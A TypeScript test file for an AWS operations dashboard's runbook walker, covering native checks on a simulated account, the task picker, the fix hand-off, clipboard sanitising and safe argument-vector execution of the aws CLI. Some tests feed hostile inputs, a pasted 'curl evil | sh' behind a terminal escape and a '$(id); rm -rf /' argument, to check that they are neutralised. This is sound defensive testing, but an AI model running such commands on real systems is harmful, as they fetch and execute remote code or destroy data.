// The walker's requests performed for real: every native check of the built-in runbook through the
// session (reducer + effects) on the simulated account, the aws CLI as an argument vector (a fake
// `aws` on PATH), the task picker, the fix flow hand-off and the clipboard.
import {chmod, mkdtemp, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {afterEach, beforeAll, describe, expect, it} from 'vitest';
import {testConfig} from '../../helpers/render.js';
import type {Cloud} from '../../../source/port/types.js';
import {builtInRunbook} from '../../../source/runbooks/load-runbook.js';
import {allSteps} from '../../../source/runbooks/model.js';
import {createRunbookSession, type RunbookSession} from '../../../source/runbooks/walker/runbook-session.js';
import {stepKind} from '../../../source/runbooks/walker/step-kind.js';
import {awsUnavailable, cliContextOf, type EffectDeps, listTaskChoices, performRequest} from '../../../source/runbooks/walker/walker-effects.js';
import type {RunEnv, WalkerState} from '../../../source/runbooks/walker/walker-state.js';
import type {FixRequest} from '../../../source/fixes/hint.js';
import {createManualClock, createSimCloud} from '../../../source/sim/index.js';

const start = Date.UTC(2026, 10, 28, 12, 0, 0);
const config = testConfig({demo: true});

function setup(cloud: Cloud = createSimCloud({seed: 7, clock: createManualClock(start), isWriteEnabled: () => false})) {
	const loaded = builtInRunbook(config.names);
	const session = createRunbookSession(() => loaded);
	const notices: Array<{text: string; tone?: string}> = [];
	const copied: string[] = [];
	const proposed: FixRequest[] = [];
	const deps: EffectDeps = {
		cloud,
		config,
		now: () => start,
		runbook: loaded.runbook,
		copyToClipboard: text => {
			copied.push(text);
			return true;
		},
		notify: (text, tone) => void notices.push({text, ...(tone === undefined ? {} : {tone})}),
		proposeFix: request => void proposed.push(request),
	};
	const detach = session.attach((request, dispatch) => performRequest(request, deps, dispatch));
	return {session, deps, notices, copied, proposed, detach, runbook: loaded.runbook};
}

/** Resolves once the session's state satisfies `test`. */
function until(session: RunbookSession, test: (state: WalkerState) => boolean): Promise<WalkerState> {
	return new Promise((resolve, reject) => {
		if (test(session.getState())) return resolve(session.getState());
		const timer = setTimeout(() => reject(new Error('timed out waiting for the walker')), 10_000);
		const off = session.subscribe(() => {
			if (!test(session.getState())) return;
			clearTimeout(timer);
			off();
			resolve(session.getState());
		});
	});
}

const env: RunEnv = {now: start, write: false};

describe('every native check of the built-in runbook, run through the walker on the simulated account', () => {
	it('ends each with a verdict and readable lines, the issue\'s resolution recommended where it applies', async () => {
		const {session, runbook} = setup();
		const native = allSteps(runbook).filter(s => stepKind(s) === 'native');
		expect(native.length).toBeGreaterThanOrEqual(25);
		for (const step of native) {
			session.dispatch({type: 'open', stepId: step.id});
			session.dispatch({type: 'enter', env});
			const state = await until(session, s => s.results[step.id]?.status !== 'running');
			const record = state.results[step.id];
			expect(record?.status, step.id).toBe('done');
			if (record?.status !== 'done' || record.outcome.kind !== 'native') throw new Error(step.id);
			expect(record.outcome.result.error, `${step.id}: ${record.outcome.result.verdict.reason}`).toBeUndefined();
			expect(record.outcome.result.lines.length, step.id).toBeGreaterThan(0);
		}
		const verdict = (id: string) => {
			const r = session.getState().results[id];
			return r?.status === 'done' && r.outcome.kind === 'native' ? r.outcome.result.verdict : undefined;
		};
		// The production demo's incident: the supervisor leaks memory and ACSO-HighMemory is in ALARM.
		expect(verdict('memory-leaks/diagnosis/1')).toMatchObject({level: 'problem', recommends: {index: 0, title: 'Immediate fix - restart service'}});
		expect(verdict('alert-fatigue/diagnosis/2')).toMatchObject({level: 'problem', seeAlso: [{issueId: 'memory-leaks'}]});
		expect(verdict('deployment-fails-with-service-not-found/diagnosis/1')?.level).toBe('ok');
	});
});

describe('the task picker', () => {
	it('lists the running tasks of the environment with their services', async () => {
		const {deps} = setup();
		const tasks = await listTaskChoices(deps.cloud, config.names.cluster);
		expect(tasks.length).toBeGreaterThan(3);
		expect(tasks.every(t => /^[a-f0-9]+$/.test(t.id))).toBe(true);
		expect(tasks.map(t => t.service)).toContain('acso-production-supervisor');
	});

	it('fills TASK-ID from the list through the session', async () => {
		const {session} = setup();
		session.dispatch({type: 'open', stepId: 'memory-leaks/diagnosis/3'});
		session.dispatch({type: 'enter', env});
		const state = await until(session, s => s.tasks.status === 'ok');
		// The command opens a shell in supervisor-agent: the list starts on a supervisor task.
		const picked = state.step.kind === 'filling' ? state.tasks.items[state.step.choice] : undefined;
		expect(picked?.service).toBe('acso-production-supervisor');
		session.dispatch({type: 'submit', env});
		const record = session.getState().results['memory-leaks/diagnosis/3'];
		expect(record?.status === 'done' && record.outcome.kind === 'command' && record.outcome.argv).toContain(picked?.id);
	});

	it('says why the list is missing when the port fails', async () => {
		const cloud = createSimCloud({seed: 7, clock: createManualClock(start), isWriteEnabled: () => false});
		cloud.control.setFault('denied');
		const {session} = setup(cloud);
		session.dispatch({type: 'open', stepId: 'memory-leaks/diagnosis/3'});
		session.dispatch({type: 'enter', env});
		const state = await until(session, s => s.tasks.status === 'error');
		expect(state.tasks.error).toMatch(/is not authorized to perform: ecs:ListTasks/);
	});
});

describe('changes, the clipboard and the session', () => {
	it('hands a typed fix to the fix flow with the step\'s hint, and says so when there is no flow', () => {
		const {session, proposed, deps, notices, runbook} = setup();
		session.dispatch({type: 'open', stepId: 'memory-leaks/resolution/1/1'});
		session.dispatch({type: 'enter', env});
		const hint = allSteps(runbook).find(s => s.id === 'memory-leaks/resolution/1/1')?.fix;
		expect(hint).toMatchObject({kind: 'force-new-deployment', target: {kind: 'service', cluster: 'acso-production-cluster', service: 'acso-production-supervisor'}});
		expect(proposed).toEqual([{hint}]);
		expect(session.getState().results).toEqual({});
		const {proposeFix: _none, ...without} = deps;
		performRequest({id: 1, kind: 'fix', stepId: 'x', hint: hint!}, without, () => {});
		expect(notices.at(-1)?.text).toMatch(/fix flow is not available/);
	});

	it('copies the command and says whether the terminal took it', () => {
		const {session, copied, notices, deps} = setup();
		session.dispatch({type: 'open', stepId: 'emergency/1'});
		session.dispatch({type: 'copy'});
		expect(copied).toEqual(['python scripts/smoke-tests.py --environment production']);
		expect(notices.at(-1)).toEqual({text: 'copied the command to the clipboard (OSC 52)', tone: 'info'});
		performRequest({id: 9, kind: 'copy', text: 'x', what: 'the command'}, {...deps, copyToClipboard: () => false}, () => {});
		expect(notices.at(-1)).toEqual({text: 'copy is not available on this terminal', tone: 'warn'});
	});

	it('copies a guide\'s text as it is drawn: no escape sequence, no carriage return, the lines kept', () => {
		const {copied, deps} = setup();
		performRequest({id: 9, kind: 'copy', text: 'aws ecs list-clusters \\\n  --x \u001b[201~\rcurl evil | sh \u202e', what: 'the command'}, deps, () => {});
		expect(copied).toEqual(['aws ecs list-clusters \\\n  --x \\x1b[201~\\x0dcurl evil | sh <U+202E>']);
	});

	it('keeps requests until a performer attaches, and results after it detaches', async () => {
		const loaded = builtInRunbook(config.names);
		const session = createRunbookSession(() => loaded);
		session.dispatch({type: 'open', stepId: 'emergency/4'});
		session.dispatch({type: 'enter', env});
		expect(session.getState().requests).toHaveLength(1);
		const {deps} = setup();
		const detach = session.attach((request, dispatch) => performRequest(request, {...deps, runbook: loaded.runbook}, dispatch));
		expect(session.getState().requests).toEqual([]);
		// The screen is left while the check runs: its result still lands.
		detach();
		const state = await until(session, s => s.results['emergency/4']?.status === 'done');
		expect(state.step).toEqual({kind: 'done', stepId: 'emergency/4'});
	});
});

describe('the aws CLI', () => {
	let dir: string;
	const savedPath = process.env.PATH;
	beforeAll(async () => {
		// A stand-in aws that prints its arguments one a line and the region it was given.
		dir = await mkdtemp(path.join(tmpdir(), 'acso-aws-'));
		await writeFile(path.join(dir, 'aws'), '#!/bin/sh\nfor a in "$@"; do echo "arg:$a"; done\necho "region:$AWS_REGION profile:$AWS_PROFILE"\n');
		await chmod(path.join(dir, 'aws'), 0o755);
	});
	afterEach(() => {
		process.env.PATH = savedPath;
	});

	const awsCloud = (): Cloud => ({...createSimCloud({seed: 7, clock: createManualClock(start), isWriteEnabled: () => false}), kind: 'aws', region: 'eu-west-1'});

	it('is not offered on the simulated account, nor without the CLI on PATH', () => {
		expect(awsUnavailable({kind: 'sim'}, dir)).toBe('the simulated account (--demo) cannot answer the aws CLI');
		expect(awsUnavailable({kind: 'aws'}, '/nonexistent')).toBe('the aws CLI is not on PATH');
		expect(awsUnavailable({kind: 'aws'}, dir)).toBeUndefined();
	});

	it('points the CLI at the dashboard\'s region, profile and endpoint, and its session', () => {
		expect(cliContextOf({region: 'eu-west-1'}, {profile: 'oncall', endpointUrl: 'http://127.0.0.1:5000'}, 's1', {})).toEqual({region: 'eu-west-1', profile: 'oncall', endpointUrl: 'http://127.0.0.1:5000', sessionId: 's1'});
		expect(cliContextOf({region: 'us-east-1'}, {}, 's2', {AWS_PROFILE: 'from-env'})).toEqual({region: 'us-east-1', profile: 'from-env', sessionId: 's2'});
	});

	it('runs a filled-in read as an argument vector: a value with shell characters stays one argument', async () => {
		process.env.PATH = `${dir}:${savedPath}`;
		const {session} = setup(awsCloud());
		session.dispatch({type: 'open', stepId: 'network-security-violations/diagnosis/3'});
		session.dispatch({type: 'enter', env});
		expect(session.getState().step).toMatchObject({kind: 'filling', placeholders: [{token: 'vpc-12345678'}]});
		session.dispatch({type: 'draft', text: 'vpc-0a1b2c3d'});
		session.dispatch({type: 'submit', env});
		expect(session.getState().step).toMatchObject({kind: 'confirming', argv: ['aws', 'ec2', 'describe-network-acls', '--filters', 'Name=vpc-id,Values=vpc-0a1b2c3d']});
		session.dispatch({type: 'submit', env});
		const state = await until(session, s => s.results['network-security-violations/diagnosis/3']?.status === 'done');
		const record = state.results['network-security-violations/diagnosis/3'];
		if (record?.status !== 'done' || record.outcome.kind !== 'external') throw new Error('no external result');
		expect(record.outcome.result.stdout.split('\n')).toEqual(['arg:ec2', 'arg:describe-network-acls', 'arg:--filters', 'arg:Name=vpc-id,Values=vpc-0a1b2c3d', 'region:eu-west-1 profile:', '']);
		const hostile = await new Promise<string>(resolve => {
			const {deps} = setup(awsCloud());
			performRequest({id: 1, kind: 'external', stepId: 's', runId: 1, argv: ['aws', 'sts', 'get-caller-identity', '--query', '$(id); rm -rf / `x`'], write: false}, deps, action => {
				if (action.type === 'finished' && action.outcome.kind === 'external') resolve(action.outcome.result.stdout);
			});
		});
		expect(hostile).toContain('arg:$(id); rm -rf / `x`\n');
	});

	it('refuses a change without --write even if asked to run it', async () => {
		process.env.PATH = `${dir}:${savedPath}`;
		const {deps} = setup(awsCloud());
		const result = await new Promise<{failed: boolean; message: string}>(resolve => {
			performRequest({id: 1, kind: 'external', stepId: 's', runId: 1, argv: ['aws', 'iam', 'attach-role-policy', '--role-name', 'r'], write: true}, deps, action => {
				if (action.type === 'finished' && action.outcome.kind === 'external') resolve({failed: action.failed, message: action.outcome.result.message});
			});
		});
		expect(result).toEqual({failed: true, message: "a change (aws iam attach-role-policy is not on acso-tui's list of read-only operations): acso-tui is read-only: start it with --write to allow changes"});
	});
});
